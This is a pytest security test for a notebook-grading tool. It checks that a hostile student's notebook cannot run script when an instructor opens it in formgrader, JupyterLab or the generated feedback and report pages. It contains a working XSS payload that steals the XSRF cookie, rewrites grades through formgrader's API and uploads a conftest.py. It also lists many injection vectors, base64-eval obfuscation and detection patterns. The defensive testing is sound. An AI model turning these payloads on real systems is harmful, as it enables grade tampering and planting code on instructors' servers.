"""Stored XSS: a student's markdown, HTML and outputs, opened by the instructor in a real browser.

One hostile student hands in gru_gates with markdown cells that carry script in every form a
page would run (event handlers, <script>, <svg onload>, javascript: links, <iframe srcdoc>,
<details ontoggle>), HTML in a code comment and in printed and displayed output. The class is
graded through the real pipeline (`grucourse grade`, `feedback`, `report`, `similarity`); the
graded notebook then also gets hostile outputs (HTML, JavaScript, SVG, a PNG that breaks out of
its attribute), as a notebook executed by stock nbgrader would hold, so formgrader's and the
feedback page's own rendering is tried too.

Every payload does what the attack on formgrader did: it sets window.__pwned and the title,
calls a listener on the host, gives itself full marks plus extra credit through formgrader's
API and uploads a conftest.py into grading_tests/ through the contents API. Playwright and
Debian's chromium then open, as the instructor: formgrader's manual grading page of that
submission, the same notebook in JupyterLab, the feedback page, reports/index.html and the
similarity pages. Nothing may run, and the gradebook and grading_tests/ must stay as they were.
Two controls show the test can fail: the same notebook rendered by stock nbconvert runs the
payload, and the payload, run by the test itself in formgrader's page, does change the grade.
"""
from __future__ import annotations

import base64
import re
import subprocess
import threading
import time
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, HTTPServer
from pathlib import Path

import nbformat
import pytest
from browser_support import ARTIFACTS, lab_with_log, new_page
from nbconvert import HTMLExporter
from nbgrader.api import Gradebook
from playwright import sync_api as playwright_api

from grucourse.course import Course
from grucourse.csp import STATIC_PAGE_META
from grucourse.lab import LabServer
from grucourse.pipeline.course_copy import copy_course
from grucourse.simulate import make_submission

pytestmark = [pytest.mark.slow, pytest.mark.timeout(900)]

ASSIGNMENT, MALLORY, HONEST = "gru_gates", "mallory", "student01"
MARKER = "MALLORY-MARKDOWN-MARKER"

PAYLOAD = """(function () {
  window.__pwned = 1; document.title = 'PWNED';
  fetch('http://127.0.0.1:%(port)d/hit?from=' + encodeURIComponent(location.href), {mode: 'no-cors'});
  var xsrf = decodeURIComponent((document.cookie.match(/_xsrf=([^;]+)/) || [])[1] || '');
  var headers = {'X-XSRFToken': xsrf, 'Content-Type': 'application/json'};
  fetch(location.origin + '/formgrader/api/grades?submission_id=' + window.submission_id)
    .then(function (r) { return r.json(); })
    .then(function (grades) { grades.forEach(function (g) {
      g.manual_score = g.max_score; g.extra_credit = 100;
      fetch(location.origin + '/formgrader/api/grade/' + g.id, {method: 'PUT', headers: headers, body: JSON.stringify(g)});
    }); });
  fetch(location.origin + '/api/contents/grading_tests/gru_gates/conftest.py', {method: 'PUT', headers: headers,
    body: JSON.stringify({type: 'file', format: 'text', content: 'def pytest_configure(config):\\n    pass\\n'})});
})();"""


class Listener:
    """An HTTP listener on the host that records every request a payload makes to it."""

    def __init__(self) -> None:
        hits = self.hits = []

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:  # noqa: N802 (http.server's name)
                hits.append(self.path)
                self.send_response(204)
                self.end_headers()

            def log_message(self, *args: object) -> None:
                pass

        self.server = HTTPServer(("127.0.0.1", 0), Handler)
        self.port = self.server.server_address[1]
        threading.Thread(target=self.server.serve_forever, daemon=True).start()


def _run(js: str) -> str:
    """`js` as one expression that fits in an attribute or a URL: no quotes of either kind."""
    return f"eval(atob(`{base64.b64encode(js.encode()).decode()}`))"


def hostile_markdown(js: str) -> list[str]:
    run = _run(js)
    return [
        f"{MARKER}: my notes <img src=x onerror=\"{run}\">",
        f"<script>{run}</script>\n\n<svg width=10 height=10 onload=\"{run}\"><rect width=10 height=10/></svg>",
        f"[click me]({'javascript:' + run}) and <a href=\"javascript:{run}\">click me too</a>",
        f"<iframe srcdoc=\"<script>parent.{run}</script>\"></iframe>\n\n<details open ontoggle=\"{run}\">x</details>",
        f"<div>\n\n<img src=y onerror=\"{run}\">\n\n</div>\n\n<style>body {{ display: none }}</style>",
    ]


SHARED_HELPER = '''
def clipped_softplus(values, low=-30.0, high=30.0):
    """A helper both students wrote the same way, so the similarity report pairs them."""
    clipped = np.clip(values, low, high)
    positive = np.maximum(clipped, 0.0)
    return positive + np.log1p(np.exp(-np.abs(clipped)))
'''


def submission(course: Course, student: str, comment: str = "") -> nbformat.NotebookNode:
    """A correct gru_gates whose first answer cell also holds SHARED_HELPER under `comment`."""
    nb = make_submission(course, ASSIGNMENT, "correct", student)
    answer = next(c for c in nb.cells if c.metadata.get("nbgrader", {}).get("solution"))
    answer.source += "\n\n" + comment + SHARED_HELPER
    return nb


def hostile_submission(course: Course, js: str) -> nbformat.NotebookNode:
    """A correct gru_gates with the payload in markdown cells, a code comment and printed output."""
    run = _run(js)
    nb = submission(course, MALLORY, f"# <img src=x onerror=\"{run}\">")
    answer = next(i for i, c in enumerate(nb.cells) if c.metadata.get("nbgrader", {}).get("solution"))
    extra = [nbformat.v4.new_markdown_cell(text) for text in hostile_markdown(js)]
    extra.append(nbformat.v4.new_code_cell(
        "from IPython.display import HTML, Javascript, display\n"
        f"print('<img src=x onerror=\"{run}\">')\n"
        f"display(HTML('<img src=x onerror=\"{run}\">'))\n"
        f"display(Javascript('{run}'))\n"))
    nb.cells[answer + 1:answer + 1] = extra
    return nb


def hostile_outputs(js: str) -> list[nbformat.NotebookNode]:
    """Outputs a kernel run by stock nbgrader would have stored for such a notebook."""
    run = _run(js)
    return [
        nbformat.v4.new_output("display_data", data={"text/html": f"<img src=x onerror=\"{run}\"><script>{run}</script>",
                                                     "text/plain": "<HTML>"}),
        nbformat.v4.new_output("display_data", data={"application/javascript": run}),
        nbformat.v4.new_output("display_data", data={"image/svg+xml": f"<svg onload=\"{run}\"></svg>"}),
        nbformat.v4.new_output("display_data", data={"image/png": f"x\" onerror=\"{run}"}),
        nbformat.v4.new_output("display_data", data={"text/markdown": f"<img src=x onerror=\"{run}\">"}),
    ]


def _grucourse(course: Course, *args: str) -> None:
    subprocess.run(["grucourse", "--course", str(course.root), *args], check=True, capture_output=True, timeout=900)


@pytest.fixture(scope="module")
def listener() -> Listener:
    return Listener()


@pytest.fixture(scope="module")
def course(tmp_path_factory: pytest.TempPathFactory, listener: Listener) -> Course:
    course = copy_course(tmp_path_factory.mktemp("xss") / "course")
    js = PAYLOAD % {"port": listener.port}
    for student, nb in ((HONEST, submission(course, HONEST)),
                        (MALLORY, hostile_submission(course, js))):
        path = course.submission(student, ASSIGNMENT)
        path.parent.mkdir(parents=True)
        nbformat.write(nb, path)
    _grucourse(course, "grade", ASSIGNMENT)
    graded = course.autograded_notebook(MALLORY, ASSIGNMENT)
    nb = nbformat.read(graded, as_version=4)
    markdown = "".join(c.source for c in nb.cells if c.cell_type == "markdown")
    assert MARKER in markdown and not re.search(r"onerror|onload|ontoggle|<script|javascript:", markdown)
    shown = [o for c in nb.cells if c.cell_type == "code" for o in c.outputs if "data" in o]
    assert not any(re.search(r"onerror|<script", o.data.get("text/html", "")) for o in shown)
    code = next(c for c in nb.cells if c.cell_type == "code" and "Javascript" in c.source)
    code.outputs += hostile_outputs(js)  # what a notebook graded by something else could hold
    nbformat.write(nb, graded)
    for command in (["feedback"], ["report"], ["similarity", ASSIGNMENT]):
        _grucourse(course, *command)
    return course


@pytest.fixture(scope="module")
def lab(course: Course) -> Iterator[LabServer]:
    with lab_with_log(course, "jupyterlab_xss.log") as server:
        yield server


@pytest.fixture
def page(browser: object) -> Iterator[object]:
    """A page that records the dialogs it opened and its console messages."""
    with new_page(browser) as page:
        page.dialogs, page.console = [], []
        page.on("dialog", lambda dialog: (page.dialogs.append(dialog.message), dialog.dismiss()))
        page.on("console", lambda message: page.console.append(message.text))
        yield page


def _grades(course: Course, student: str) -> list[tuple]:
    with Gradebook(course.db_url) as gradebook:
        notebook = gradebook.find_submission_notebook(ASSIGNMENT, ASSIGNMENT, student)
        return sorted((g.name, g.auto_score, g.manual_score, g.extra_credit) for g in notebook.grades)


def _submission_id(course: Course, student: str) -> str:
    with Gradebook(course.db_url) as gradebook:
        return gradebook.find_submission_notebook(ASSIGNMENT, ASSIGNMENT, student).id


def _conftest(course: Course) -> Path:
    return course.root / "grading_tests" / ASSIGNMENT / "conftest.py"


def _assert_nothing_ran(page, listener: Listener, name: str) -> None:
    """After the page settled and its links were clicked: no payload ran, nothing is live."""
    page.wait_for_load_state("load")
    for link in page.get_by_role("link", name="click me").all():
        if link.is_visible():
            link.click(timeout=5_000)
    page.wait_for_timeout(3_000)  # what a payload would do takes milliseconds
    page.screenshot(path=str(ARTIFACTS / f"xss_{name}.png"), full_page=True)
    assert page.evaluate("window.__pwned") is None
    assert page.title() != "PWNED"
    assert page.dialogs == []
    assert listener.hits == []
    live = "[onerror], [onload], [ontoggle], [onclick*='atob'], iframe[srcdoc], a[href^='javascript:' i]"
    assert page.locator(live).count() == 0
    assert page.evaluate("[...document.scripts].filter(s => s.text.includes('atob')).length") == 0


def test_unsanitised_rendering_runs_the_payload(course: Course, page, listener: Listener) -> None:
    """Control: stock nbconvert renders the submitted notebook with every payload live."""
    nb = nbformat.read(course.submission(MALLORY, ASSIGNMENT), as_version=4)
    html, _ = HTMLExporter().from_notebook_node(nb)
    stock = ARTIFACTS / "xss_stock_nbconvert.html"
    ARTIFACTS.mkdir(exist_ok=True)
    stock.write_text(html, encoding="utf-8")
    page.goto(stock.as_uri())
    page.wait_for_function("window.__pwned === 1")
    deadline = time.monotonic() + 30
    while not listener.hits and time.monotonic() < deadline:
        time.sleep(0.2)
    assert listener.hits, "the payload reached the listener"
    listener.hits.clear()


def test_formgrader_grading_page_runs_no_student_script(course: Course, lab: LabServer, page,
                                                        listener: Listener) -> None:
    before = _grades(course, MALLORY)
    response = page.goto(lab.url(f"formgrader/submissions/{_submission_id(course, MALLORY)}/"))
    page.wait_for_load_state("networkidle")
    playwright_api.expect(page.get_by_text(MARKER)).to_be_visible()
    policy = response.header_value("content-security-policy") or ""
    assert "script-src 'self'" in policy and "'unsafe-inline'" not in policy.split("script-src")[1].split(";")[0]
    # formgrader's own scripts run under the policy: they load the grades into the form
    playwright_api.expect(page.locator("input.score").first).to_have_attribute("placeholder", re.compile(r"\d"))
    assert not [m for m in page.console if "Content Security Policy" in m], page.console
    _assert_nothing_ran(page, listener, "formgrader")
    assert _grades(course, MALLORY) == before
    assert not _conftest(course).exists()


def test_jupyterlab_shows_the_graded_notebook_without_running_it(course: Course, lab: LabServer, page,
                                                                 listener: Listener) -> None:
    """formgrader's "open live notebook" link: the graded notebook in JupyterLab."""
    before = _grades(course, MALLORY)
    page.goto(lab.url(f"lab/tree/autograded/{MALLORY}/{ASSIGNMENT}/{ASSIGNMENT}.ipynb?reset"))
    playwright_api.expect(page.locator(".jp-MarkdownOutput").get_by_text(MARKER)).to_be_visible(timeout=120_000)
    _assert_nothing_ran(page, listener, "jupyterlab")
    assert _grades(course, MALLORY) == before and not _conftest(course).exists()


@pytest.mark.parametrize("page_path", ["feedback", "reports/index.html", "similarity"])
def test_feedback_and_report_pages_run_no_student_script(course: Course, page, listener: Listener,
                                                         page_path: str) -> None:
    pages = {
        "feedback": [course.feedback / MALLORY / ASSIGNMENT / f"{ASSIGNMENT}.html"],
        "reports/index.html": [course.reports / "index.html"],
        "similarity": sorted((course.reports / "similarity" / ASSIGNMENT).glob("*.html")),
    }[page_path]
    assert pages and all(p.is_file() for p in pages)
    if page_path == "similarity":
        assert any("onerror" in p.read_text() for p in pages), "the side-by-side page shows the comment"
    for html in pages:
        page.goto(html.as_uri())
        if page_path == "feedback":
            playwright_api.expect(page.get_by_text(MARKER)).to_be_visible()
        else:  # the pages' policy: no script at all, and their figures still load under it
            assert STATIC_PAGE_META in html.read_text()
            assert page.evaluate("[...document.images].every(image => image.naturalWidth > 0)")
        _assert_nothing_ran(page, listener, f"{page_path.replace('/', '_')}_{html.stem}")


def test_control_the_payload_run_in_formgrader_does_change_the_grade(course: Course, lab: LabServer, page,
                                                                     listener: Listener) -> None:
    """Run last: the unchanged gradebook above means the payload never ran, not that it fails."""
    before = _grades(course, MALLORY)
    page.goto(lab.url(f"formgrader/submissions/{_submission_id(course, MALLORY)}/"))
    page.wait_for_load_state("networkidle")
    page.evaluate(PAYLOAD % {"port": listener.port})
    deadline = time.monotonic() + 60
    while not (_conftest(course).exists() and all(extra == 100 for *_, extra in _grades(course, MALLORY))):
        assert time.monotonic() < deadline, f"the payload did not take effect: {_grades(course, MALLORY)}"
        time.sleep(0.5)
    assert _grades(course, MALLORY) != before
